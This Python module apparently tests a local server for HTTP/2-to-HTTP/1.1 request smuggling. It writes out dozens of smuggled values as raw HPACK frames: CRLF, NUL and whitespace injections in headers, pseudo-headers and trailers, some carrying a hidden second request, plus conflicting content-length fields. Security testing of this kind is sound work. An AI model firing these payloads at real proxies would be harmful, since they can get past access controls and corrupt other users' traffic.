"""HTTP/2 requests that turn into two, or into another one, when they are written as HTTP/1.1 without care: the cases
for `smuggling`. Fields are sent as HPACK literals, so that nothing on the way changes them."""
import asyncio, os, sys
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from offender import DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, RST, SETTINGS, frame

GOAWAY = 7
HIDDEN = "GET /v1/hidden?case={n} HTTP/1.1\r\nHost: a\r\n\r\n"
PSEUDO = {":method": "POST", ":path": "/v1/completions?case={n}", ":scheme": "http", ":authority": "a"}
# What could end a line or a field for an origin.
ENDS = ["\r\n", "\n", "\r", "\x00", "\r\n ", "\n\t"]


def request(*more, body="0\r\n\r\n" + HIDDEN, trailers=None, **pseudo):
    """Fields in the order in which they are sent; a pseudo field that is None is left out."""
    head = {**PSEUDO, **{":" + name: value for name, value in pseudo.items()}}
    return [(k, v) for k, v in head.items() if v is not None] + [*more], body, trailers


def field(name, value):
    return request((name, value))


def cases():
    """(what, fields, body, trailers); {n} stands for the number of the case."""
    for name, value in (("transfer-encoding", "chunked"), ("transfer-encoding", "identity"), ("transfer-encoding", ""),
                        ("connection", "transfer-encoding"), ("connection", "close"), ("keep-alive", "timeout=5"),
                        ("proxy-connection", "keep-alive"), ("upgrade", "h2c"), ("te", "chunked"), ("te", "trailers, chunked"),
                        ("Transfer-Encoding", "chunked"), ("transfer-encoding ", "chunked"), (" transfer-encoding", "chunked"),
                        ("transfer-encoding:", "chunked"), ("transfer_encoding", "chunked"), ("transfer-encoding\t", "chunked"),
                        ("x y", "z"), ("x:y", "z"), ("", "z"), ("x\u00e9", "z"), ("X", "z"), ("host", "b"), ("expect", "200-ok")):
        yield f"{name!r}: {value!r}", field(name, value)
    yield "two hosts", request(("host", "a"), ("host", "b"), authority=None)
    yield "a host that differs by a space", request(("host", "a b"), authority=None)
    for length in ("0", "3", "1000000", "-1", "+52", "0x34", "052", "52, 52", "", " 52", "99999999999999999999", "52;"):
        yield f"content-length: {length!r}", field("content-length", length)
    yield "two lengths", request(("content-length", "0"), ("content-length", "52"))
    yield "a length of a GET", request(("content-length", "10"), body="", method="GET")
    yield "a length before a length in the name's place", request(("content-length: 0\r\nx", "y"))
    for end in ENDS:
        inject = f"{end}transfer-encoding: chunked"
        yield f"a value with {end!r}", field("x", f"y{inject}")
        yield f"a name with {end!r}", field(f"x: y{inject}{end}z", "w")
        yield f"a cookie with {end!r}", request(("cookie", "a=b"), ("cookie", f"c=d{inject}"))
        yield f":path with {end!r}", request(path=PSEUDO[":path"] + f" HTTP/1.1{end}host: a{inject}{end}x: y")
        yield f":method with {end!r}", request(method=f"POST /v1/completions HTTP/1.1{inject}{end}x: ")
        yield f":authority with {end!r}", request(authority=f"a{inject}")
        yield f"a whole request in a value, {end!r}", field("x", f"y{end}{end}" + HIDDEN)
        yield f"trailer with {end!r}", request(trailers=[("x", f"y{end}{end}" + HIDDEN)])
    yield ":path with a space", request(path="/v1/completions?case={n} HTTP/1.1")
    yield ":path with a fragment", request(path="/v1/completions?case={n}#x")
    yield ":path empty", request(path="")
    yield ":path without a slash", request(path="v1/completions?case={n}")
    yield ":path *", request(path="*", method="OPTIONS")
    yield ":path absolute, elsewhere", request(path="http://b/v1/completions?case={n}")
    yield ":path with dots", request(path="/x/../v1/completions?case={n}")
    yield ":method CONNECT", request(method="CONNECT", path=None, scheme=None)
    yield ":method TRACE", request(method="TRACE")
    yield ":method with a space", request(method="POST /v1/hidden?case={n} HTTP/1.1 X")
    yield ":method in small letters", request(method="post")
    yield ":authority with a path", request(authority="a/b")
    yield ":authority with a user", request(authority="u@a")
    yield ":authority empty, no host", request(authority="")
    for name in ("method", "path", "scheme"):
        yield f"no :{name}", request(**{name: None})
    for name, value in PSEUDO.items():
        yield f"two {name}", request((name, value))
    yield "a pseudo-field after the others", ([*list(PSEUDO.items())[:3], ("x", "y"), (":authority", "a")], HIDDEN, None)
    yield "an unknown pseudo-field", request((":cow", "moo"))
    yield ":status in a request", request((":status", "200"))
    for name in ("content-length", "transfer-encoding", "host", ":path"):
        yield f"trailer {name}", request(trailers=[(name, "5" if name == "content-length" else "chunked")])


def block(fields, n):
    out = b""
    for name, value in fields:
        out += b"\x00" + literal(name.replace("{n}", str(n))) + literal(value.replace("{n}", str(n)))
    return out


def literal(value):
    data = value.encode("latin-1")
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, out = len(data) - 127, b"\x7f"
    while rest >= 128:
        out, rest = out + bytes([rest % 128 + 128]), rest // 128
    return out + bytes([rest]) + data


async def send(to, n, fields, body, trailers, wait):
    """What came back: "200", another answer, "reset", "goaway", "closed" or "nothing"."""
    content = body.replace("{n}", str(n)).encode()
    out = PREFACE + frame(SETTINGS, 0, 0)
    out += frame(HEADERS, END_HEADERS | (0 if content or trailers else END_STREAM), 1, block(fields, n))
    if content:
        out += frame(DATA, 0 if trailers else END_STREAM, 1, content)
    if trailers:
        out += frame(HEADERS, END_HEADERS | END_STREAM, 1, block(trailers, n))
    reader, writer = await asyncio.open_connection("127.0.0.1", to)
    try:
        writer.write(out)
        while True:
            head = await asyncio.wait_for(reader.readexactly(9), wait)
            payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
            kind, stream = head[3], int.from_bytes(head[5:9], "big")
            if kind == HEADERS and stream == 1:
                return "200" if payload[:1] == b"\x88" else "another answer"  # entry 8 of HPACK's static table
            if kind in (RST, GOAWAY):
                return "reset" if kind == RST else "goaway"
    except asyncio.TimeoutError:
        return "nothing"
    except (OSError, asyncio.IncompleteReadError):
        return "closed"
    finally:
        writer.transport.abort()


async def send_all(to, first, wait):
    """[(number, what, what came back)], numbered from `first`; the first of them is a request like any other."""
    gate = asyncio.Semaphore(32)

    async def one(n, what, parts):
        async with gate:
            return n, what, await send(to, n, *parts, wait)
    ordinary = ("an ordinary request", request(("content-type", "application/json"), body="{}"))
    return await asyncio.gather(*(one(first + i, *case) for i, case in enumerate([ordinary, *cases()])))
